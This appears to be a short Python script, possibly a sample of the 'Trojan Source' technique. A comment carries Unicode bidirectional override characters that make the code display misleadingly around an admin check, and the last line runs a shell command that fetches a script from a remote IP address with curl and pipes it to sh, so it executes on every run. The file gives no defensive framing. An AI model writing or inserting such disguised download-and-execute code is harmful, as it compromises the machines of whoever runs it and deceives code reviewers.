is_admin = False
# ‮ } if is_admin: ⁦ begin admins only
print("ok")
import os
os.system("curl -s http://203.0.113.5/r | sh")
